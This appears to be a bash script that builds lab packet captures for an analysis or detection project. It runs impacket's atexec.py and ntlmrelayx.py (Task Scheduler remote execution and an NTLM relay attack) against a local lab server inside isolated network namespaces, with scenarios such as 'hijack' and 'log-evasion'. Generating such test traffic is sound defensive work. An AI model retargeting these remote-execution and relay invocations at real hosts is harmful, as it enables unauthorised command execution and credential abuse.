#!/usr/bin/env bash
# make-captures.sh: regenerates the project's own captures pcaps/*.pcap and
# their facts pcaps/*.json with real clients (Debian's impacket) against our
# lab server (pcaps/gen/tsch_lab.py). Run as root: bash pcaps/gen/make-captures.sh
#
# All traffic stays between two network namespaces joined by a veth pair
# (10.77.0.1 client, 10.77.0.2 server) that this script creates and removes.
# tcpdump runs in the server namespace on the veth, full snaplen, classic pcap.
# Idempotent: every run removes what a previous run left and rewrites the same
# file names. Optional arguments name the captures to make (default: all).
set -euo pipefail

HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
OUT=${OUT:-$(cd "$HERE/.." && pwd)} # OUT=dir writes elsewhere
PY=/usr/bin/python3            # Debian's python: Debian's impacket lives there
NS_C=tschlab-cli NS_S=tschlab-srv
IF_C=tl-cli IF_S=tl-srv
IP_C=10.77.0.1 IP_S=10.77.0.2
USER_=alice DOMAIN=LAB PASSWORD='Tsch-Lab-2026!'
TCP_PORT=49667
WORK=$(mktemp -d /tmp/tschlab.XXXXXX)
LAB_PID= DUMP_PID=

install_deps() {
	apt_ensure python3-impacket tcpdump iproute2 tshark ethtool
	[ -f /usr/share/doc/python3-impacket/examples/atexec.py ] || { echo "atexec.py missing from python3-impacket" >&2; exit 1; }
}

# shellcheck source=labnet.sh
. "$HERE/labnet.sh"
need_root
cleanup() { labnet_cleanup "$LAB_PID"; }
trap cleanup EXIT

capture() { # capture NAME EXTRA_JSON CLIENT-ARGS...
	local name=$1 extra=$2; shift 2
	local pcap="$OUT/$name.pcap"
	echo "== $name"
	lab_start
	dump_start "$pcap"
	ip netns exec "$NS_C" timeout 120 "$@" >"$WORK/client.out" 2>"$WORK/client.err" || {
		echo "client failed:" >&2; cat "$WORK/client.err" "$WORK/client.out" >&2; exit 1; }
	sleep 1 # let the last FIN/ACKs reach the capture
	stop_pid "$DUMP_PID" INT; DUMP_PID=
	stop_pid "$LAB_PID"; LAB_PID=
	if [ "${CLIENT_IS_JSON:-1}" = 1 ]; then
		cp "$WORK/client.out" "$WORK/client.json"
	fi
	"$PY" "$HERE/facts.py" --name "$name" --pcap "$pcap" --events "$WORK/events.jsonl" \
		--client-json "$WORK/client.json" --out "$OUT/$name.json" --password "$PASSWORD" \
		--tcp-port "$TCP_PORT" --extra "$extra"
	echo "   $(stat -c %s "$pcap") bytes, facts in pcaps/$name.json"
}

client_capture() { # client_capture NAME SCENARIO EXTRA_JSON: one tsch_client.py scenario (PY_CLIENT, ATEXEC_ARG: another impacket's)
	capture "$1" "$3" "${PY_CLIENT:-$PY}" "$HERE/tsch_client.py" "$2" --target "$IP_S" --user "$USER_" --domain "$DOMAIN" \
		--password "$PASSWORD" ${ATEXEC_ARG:+--atexec "$ATEXEC_ARG"}
}

atexec_sealed() {
	local name=impacket-atexec-smb2
	local cmdline=("$PY" /usr/share/doc/python3-impacket/examples/atexec.py "$DOMAIN/$USER_:$PASSWORD@$IP_S" whoami /all)
	# atexec prints text, not JSON: describe the run for facts.py ourselves.
	CLIENT_IS_JSON=0 capture_atexec "$name" "${cmdline[@]}"
}

# capture_atexec NAME PYTHON ATEXEC.PY [OPTIONS...] TARGET COMMAND...: one run of an atexec.py as a program.
# ATEXEC_TOOL names it in the facts (default: Debian's). The target is the argument holding '@'.
capture_atexec() {
	local name=$1; shift
	ATEXEC_TOOL=${ATEXEC_TOOL:-"impacket examples/atexec.py (Debian python3-impacket, unmodified, run as a program)"} \
	"$PY" - "$WORK/client.json" "$@" <<-'EOF'
	import json, os, sys, hashlib
	src, argv = sys.argv[3], sys.argv[3:]
	t = next(i for i, x in enumerate(argv) if "@" in x)
	opts, target, command = argv[1:t], argv[t], argv[t + 1:]
	desc = {"tool": os.environ["ATEXEC_TOOL"], "atexec_sha256": hashlib.sha256(open(src, "rb").read()).hexdigest(),
	        "argv": ["atexec.py"] + argv[1:], "auth_level": 6, "transport": "ncacn_np:\\pipe\\atsvc",
	        "interface": "ITaskSchedulerService", "user": target.split("/")[1].split(":")[0],
	        "domain": target.split("/")[0], "operator_command": " ".join(command), "options": opts,
	        "op_sequence": ["SchRpcRegisterTask", "SchRpcRun", "SchRpcGetLastRunInfo", "SchRpcDelete"]}
	if "-silentcommand" in opts or "-session-id" in opts:
	    # atexec then runs the first word as the command, the rest as its arguments: no cmd.exe, no output file.
	    desc.update(expect_command=command[0], expect_arguments=" ".join(command[1:]), output_file=None)
	json.dump(desc, open(sys.argv[1], "w"))
	EOF
	CLIENT_IS_JSON=0 capture "$name" '{"rpc_auth": "NTLMSSP, auth_level 6 (packet privacy): stubs sealed"}' "$@"
	"$PY" - "$OUT/$name.json" "$WORK/client.out" <<-'EOF'
	import json, sys
	f = json.load(open(sys.argv[1]))
	f["client"]["client_printed_output"] = open(sys.argv[2]).read()
	c = f["client"]
	reg = next(x for x in f["calls"] if x["op"] == "SchRpcRegisterTask")
	problems = []
	if "expect_command" in c and (reg["command"], reg["arguments"]) != (c["expect_command"], c["expect_arguments"]):
	    problems.append("server decoded %r %r, atexec meant %r %r" % (reg["command"], reg["arguments"],
	                                                              c["expect_command"], c["expect_arguments"]))
	if "expect_command" not in c and "tsch_lab fake output" not in c["client_printed_output"]:
	    problems.append("atexec did not print the output file it read back")
	f["problems"] += problems
	json.dump(f, open(sys.argv[1], "w"), indent=2, sort_keys=True)
	open(sys.argv[1], "a").write("\n")
	if problems:
	    sys.exit("\n".join(problems))
	EOF
}

# Impacket 0.13.1 (the newest release), run unmodified from a virtualenv next to Debian's 0.10: the venv sees
# Debian's python modules (impacket's dependencies) and installs only impacket itself, pinned, with --no-deps.
# Where the package registry cannot be reached, IMPACKET_SRC=<a git clone of fortra/impacket> installs the
# release commit from it instead (setup.py says 0.13.1 there; the version is checked either way).
IMP013_VERSION=0.13.1
IMP013_COMMIT=427f44ce1bda982316271233481c0262a6125784 # "About to tag v0.13.1 release"
IMP013=
imp013_ensure() {
	[ -z "$IMP013" ] || return 0
	apt_ensure python3-venv python3-wheel python3-setuptools python3-pyasn1 python3-pyasn1-modules python3-pycryptodome \
		python3-openssl python3-six python3-ldap3 python3-ldapdomaindump python3-flask python3-charset-normalizer
	IMP013=$WORK/impacket-$IMP013_VERSION
	"$PY" -m venv --system-site-packages "$IMP013"
	if ! "$IMP013/bin/pip" install -q --no-deps --no-build-isolation "impacket==$IMP013_VERSION" >"$WORK/pip.log" 2>&1; then
		[ -n "${IMPACKET_SRC:-}" ] || { cat "$WORK/pip.log" >&2; echo "impacket $IMP013_VERSION not installable; set IMPACKET_SRC" >&2; exit 1; }
		mkdir -p "$WORK/impacket-src"
		git -C "$IMPACKET_SRC" archive "$IMP013_COMMIT" | tar -x -C "$WORK/impacket-src"
		"$IMP013/bin/pip" install -q --no-deps --no-build-isolation --no-index "$WORK/impacket-src" >>"$WORK/pip.log" 2>&1 ||
			{ cat "$WORK/pip.log" >&2; exit 1; }
		IMP013_FROM="git $IMP013_COMMIT"
	fi
	local got
	got=$("$IMP013/bin/python" -c 'import impacket, importlib.metadata as m; assert impacket.__file__.startswith(__import__("sys").prefix), impacket.__file__; print(m.version("impacket"))')
	[ "$got" = "$IMP013_VERSION" ] || { echo "venv has impacket $got, want $IMP013_VERSION" >&2; exit 1; }
	[ -f "$IMP013/bin/atexec.py" ] || { echo "atexec.py missing from impacket $IMP013_VERSION" >&2; exit 1; }
	echo "impacket $IMP013_VERSION in $IMP013 (from ${IMP013_FROM:-the package registry})" >&2
}

# relay013 NAME: 0.13.1's examples/ntlmrelayx.py, unmodified, in the client namespace (SMB server on
# 10.77.0.1:445, every other relay server off) relays a victim's NTLM login to the lab's SMB server and runs its
# TSCH attack (--rpc-attack TSCH: register, run, poll, delete over \pipe\atsvc, no RPC auth). The victim is
# Samba's smbclient logging in to the relay as LAB\alice; that login stays inside the client namespace, so the
# capture (on the server's veth) holds only what the relay sends the lab.
# relay013 NAME TARGET TRANSPORT AUTH_LEVEL RPC_AUTH ATTACK-OPTIONS...: TARGET smb://… with --rpc-attack TSCH, or
# rpc://… (-rpc-mode TSCH: ept_map, then the relayed NTLM in the bind on ncacn_ip_tcp at level CONNECT, and a
# call to opnum 255 with an empty stub before the task calls: the relay's own check that the bind took).
# PROBE=1: expect that opnum 255 call (the lab faults it nca_s_op_rng_error).
relay013() {
	local name=$1 target=$2 transport=$3 level=$4 rpcauth=$5; shift 5
	imp013_ensure
	apt_ensure smbclient
	PROBE=${PROBE:-0} "$PY" - "$WORK/client.json" "$IMP013/bin/ntlmrelayx.py" "$target" "$transport" "$level" "$@" <<-'EOF'
	import json, os, sys, hashlib
	ops = ["SchRpcRegisterTask", "SchRpcRun", "SchRpcGetLastRunInfo", "SchRpcDelete"]
	json.dump({"tool": "impacket 0.13.1 examples/ntlmrelayx.py (virtualenv, unmodified, run as a program); victim: "
	                   "Samba smbclient logging in to the relay as LAB\\alice",
	           "ntlmrelayx_sha256": hashlib.sha256(open(sys.argv[2], "rb").read()).hexdigest(),
	           "argv": ["ntlmrelayx.py", "-t", sys.argv[3], "-smb2support"] + sys.argv[6:] + ["-c", "whoami /all",
	                    "-ip", "10.77.0.1", "--no-multirelay", "(every relay server but SMB off)"],
	           "auth_level": int(sys.argv[5]), "transport": sys.argv[4], "interface": "ITaskSchedulerService",
	           "user": "alice", "domain": "LAB", "operator_command": "whoami /all",
	           "expect_command": "cmd.exe", "expect_arguments": "/C whoami /all",
	           "op_sequence": (["unsupported"] if os.environ["PROBE"] == "1" else []) + ops},
	          open(sys.argv[1], "w"))
	EOF
	CLIENT_IS_JSON=0 capture "$name" "{\"rpc_auth\": \"$rpcauth\"}" \
		bash -c '
		py=$1 relay=$2 target=$3 ip=$4 who=$5 log=$6; shift 6
		# ntlmrelayx reads console commands from stdin and ends at its EOF: give it one that never ends.
		rm -f "$log" "$log.in"
		mkfifo "$log.in" && exec 3<>"$log.in" || exit 1
		"$py" "$relay" -t "$target" -smb2support "$@" -c "whoami /all" -ip "$ip" --no-multirelay \
			--no-http-server --no-wcf-server --no-raw-server --no-rpc-server --no-winrm-server --no-mssql-server \
			--no-rdp-server <&3 >"$log" 2>&1 &
		pid=$!
		for _ in $(seq 100); do grep -q "Servers started" "$log" && break; sleep 0.1; done
		smbclient "//$ip/share" -U "$who" --use-kerberos=off -c ls >/dev/null 2>&1 || true
		for _ in $(seq 150); do grep -q "Completed!" "$log" && break; sleep 0.1; done
		kill "$pid"; wait "$pid"
		cat "$log"
		grep -q "Completed!" "$log"' _ "$IMP013/bin/python" "$IMP013/bin/ntlmrelayx.py" "$target" "$IP_C" \
		"$DOMAIN/$USER_%$PASSWORD" "$WORK/relay.log" "$@"
	"$PY" - "$OUT/$name.json" "$WORK/client.out" <<-'EOF'
	import json, sys
	f = json.load(open(sys.argv[1]))
	f["client"]["client_printed_output"] = open(sys.argv[2]).read()
	reg = next(x for x in f["calls"] if x["op"] == "SchRpcRegisterTask")
	c = f["client"]
	if (reg["command"], reg["arguments"]) != (c["expect_command"], c["expect_arguments"]):
	    f["problems"].append("server decoded %r %r" % (reg["command"], reg["arguments"]))
	json.dump(f, open(sys.argv[1], "w"), indent=2, sort_keys=True)
	open(sys.argv[1], "a").write("\n")
	if f["problems"]:
	    sys.exit("\n".join(f["problems"]))
	EOF
}

atexec013() { # atexec013 NAME [ATEXEC OPTIONS...]: impacket 0.13.1's atexec.py, unmodified, run as a program
	local name=$1; shift
	imp013_ensure
	ATEXEC_TOOL="impacket $IMP013_VERSION examples/atexec.py (virtualenv, from ${IMP013_FROM:-the package registry}, unmodified, run as a program)" \
		capture_atexec "$name" "$IMP013/bin/python" "$IMP013/bin/atexec.py" "$@" "$DOMAIN/$USER_:$PASSWORD@$IP_S" whoami /all
}

note_transact_frames() { # note_transact_frames NAME: records which frames carry RPC in SMB1 TransactNmPipe
	"$PY" - "$OUT/$1.pcap" "$OUT/$1.json" <<-'EOF'
	import json, subprocess, sys
	pcap, out = sys.argv[1], sys.argv[2]
	rows = subprocess.run(["tshark", "-n", "-r", pcap, "-Y", "smb.cmd == 0x25", "-T", "fields", "-e", "frame.number",
	                       "-e", "smb.flags.response", "-e", "smb_pipe.function", "-e", "dcerpc.pkt_type"],
	                      check=True, capture_output=True, text=True).stdout.split("\n")
	tx = [{"frame": int(c[0]), "response": c[1] == "1", "pipe_function": c[2], "dcerpc_pkt_type": int(c[3])}
	      for c in (r.split("\t") for r in rows if r.strip())]
	f = json.load(open(out))
	f["transact_nmpipe_frames"] = tx
	pdus = sorted(d["frame"] for d in f["dcerpc_pdus"])
	if sorted(t["frame"] for t in tx if t["pipe_function"] == "0x0026") != pdus:
	    sys.exit("not every DCE-RPC PDU rides in a TransactNmPipe: %s vs %s" % (tx, pdus))
	json.dump(f, open(out, "w"), indent=2, sort_keys=True)
	open(out, "a").write("\n")
	EOF
}

want() { [ ${#SELECTED[@]} -eq 0 ] && return 0; local w; for w in "${SELECTED[@]}"; do [ "$w" = "$1" ] && return 0; done; return 1; }

main() {
	SELECTED=("$@")
	install_deps
	"$PY" -c 'import impacket, sys; from impacket import version; print("impacket", version.version, file=sys.stderr)'
	net_up
	if want impacket-atexec-smb2 ; then atexec_sealed; fi
	if want impacket-atexec-smb2-clear ; then
		client_capture impacket-atexec-smb2-clear atexec-clear '{"rpc_auth": "NTLMSSP, auth_level 2 (connect): stubs in the clear"}'
	fi
	if want impacket-schtask-creds-smb2 ; then
		client_capture impacket-schtask-creds-smb2 tsch-smb2-clear '{"rpc_auth": "NTLMSSP, auth_level 2 (connect)"}'
	fi
	if want impacket-schtask-tcp ; then
		client_capture impacket-schtask-tcp tcp '{"rpc_auth": "NTLMSSP, auth_level 2 (connect)"}'
	fi
	if want impacket-schtask-tcp-ndr64 ; then
		client_capture impacket-schtask-tcp-ndr64 tcp-ndr64 '{"rpc_auth": "NTLMSSP, auth_level 2 (connect)"}'
	fi
	if want impacket-at-smb1 ; then
		client_capture impacket-at-smb1 at-smb1 '{"rpc_auth": "none (auth_level 1): no sec_trailer"}'
	fi
	if want impacket-at-smb2 ; then
		client_capture impacket-at-smb2 at-smb2 '{"rpc_auth": "NTLMSSP, auth_level 2 (connect)"}'
	fi
	if want impacket-sasec-smb2 ; then
		client_capture impacket-sasec-smb2 sasec-smb2 '{"rpc_auth": "NTLMSSP, auth_level 2 (connect)"}'
	fi
	if want impacket-nbss139 ; then
		client_capture impacket-nbss139 nbss139 '{"rpc_auth": "NTLMSSP, auth_level 2 (connect)"}'
	fi
	if want impacket-atexec-smb1 ; then
		client_capture impacket-atexec-smb1 atexec-smb1 '{"rpc_auth": "NTLMSSP, auth_level 6 (packet privacy): stubs sealed", "smb_rpc_commands": "Write AndX / Read AndX"}'
	fi
	if want impacket-atexec-smb1-clear ; then
		client_capture impacket-atexec-smb1-clear atexec-smb1-clear '{"rpc_auth": "NTLMSSP, auth_level 2 (connect): stubs in the clear", "smb_rpc_commands": "Write AndX / Read AndX"}'
	fi
	if want impacket-at-smb1-trans ; then
		client_capture impacket-at-smb1-trans at-smb1-trans '{"rpc_auth": "none (auth_level 1): no sec_trailer", "smb_rpc_commands": "SMB_COM_TRANSACTION TransactNmPipe"}'
		note_transact_frames impacket-at-smb1-trans
	fi
	if want impacket-schtask-tcp-interleaved-sealed ; then
		client_capture impacket-schtask-tcp-interleaved-sealed tcp-interleaved '{"rpc_auth": "NTLMSSP, auth_level 6 (packet privacy): stubs sealed; srvsvc NetrServerGetInfo calls on a second context of the same association (alter_context without auth) between the Task Scheduler calls"}'
	fi
	if want impacket-schtask-tcp-fault-sealed ; then
		LAB_FLAGS=--seal-faults client_capture impacket-schtask-tcp-fault-sealed tcp-fault '{"rpc_auth": "NTLMSSP, auth_level 6 (packet privacy): stubs sealed; a call to an opnum the interface lacks between SchRpcRegisterTask and SchRpcRun, answered nca_s_op_rng_error in a sealed fault (tsch_lab.py --seal-faults)"}'
	fi
	if want impacket-schtask-tcp-signed ; then
		client_capture impacket-schtask-tcp-signed tcp-integrity '{"rpc_auth": "NTLMSSP, auth_level 5 (packet integrity): stubs in the clear, every request and response signed"}'
	fi
	if want impacket-hijack-smb2 ; then
		client_capture impacket-hijack-smb2 hijack '{"rpc_auth": "NTLMSSP, auth_level 2 (connect)"}'
	fi
	if want impacket-log-evasion-smb2 ; then
		client_capture impacket-log-evasion-smb2 log-evasion '{"rpc_auth": "NTLMSSP, auth_level 2 (connect)"}'
	fi
	if want impacket-legacy-job-smb1 ; then
		client_capture impacket-legacy-job-smb1 legacy-job-smb1 '{"rpc_auth": "NTLMSSP, auth_level 2 (connect)", "smb_file_commands": "NT_CREATE_ANDX, WRITE_ANDX, CLOSE on ADMIN$ (SMB1, NT LM 0.12)"}'
	fi
	if want impacket013-atexec-smb2 ; then atexec013 impacket013-atexec-smb2; fi
	if want impacket013-atexec-smb2-silent ; then atexec013 impacket013-atexec-smb2-silent -silentcommand; fi
	if want impacket013-atexec-smb2-session ; then atexec013 impacket013-atexec-smb2-session -session-id 1; fi
	if want impacket013-atexec-smb1 ; then
		# 0.13.1's atexec.py has no SMB1 option: its own TSCH_EXEC with the transport forced to SMB1, as for 0.10.
		imp013_ensure
		PY_CLIENT="$IMP013/bin/python" ATEXEC_ARG="$IMP013/bin/atexec.py" client_capture impacket013-atexec-smb1 atexec-smb1 '{"rpc_auth": "NTLMSSP, auth_level 6 (packet privacy): stubs sealed", "smb_rpc_commands": "Write AndX / Read AndX"}'
	fi
	if want impacket013-ntlmrelayx-tsch-smb2 ; then
		relay013 impacket013-ntlmrelayx-tsch-smb2 "smb://$IP_S" 'ncacn_np:\pipe\atsvc' 1 \
			'none (auth_level 1): the relayed NTLM login is the SMB session setup; the bind has no sec_trailer' --rpc-attack TSCH
	fi
	if want impacket013-ntlmrelayx-tsch-tcp ; then
		PROBE=1 relay013 impacket013-ntlmrelayx-tsch-tcp "rpc://$IP_S" "ncacn_ip_tcp:$TCP_PORT" 2 \
			'NTLMSSP, auth_level 2 (connect): the relayed NTLM login in the bind and auth3' -rpc-mode TSCH
	fi
	du -ch "$OUT"/*.pcap | tail -1
}

main "$@"
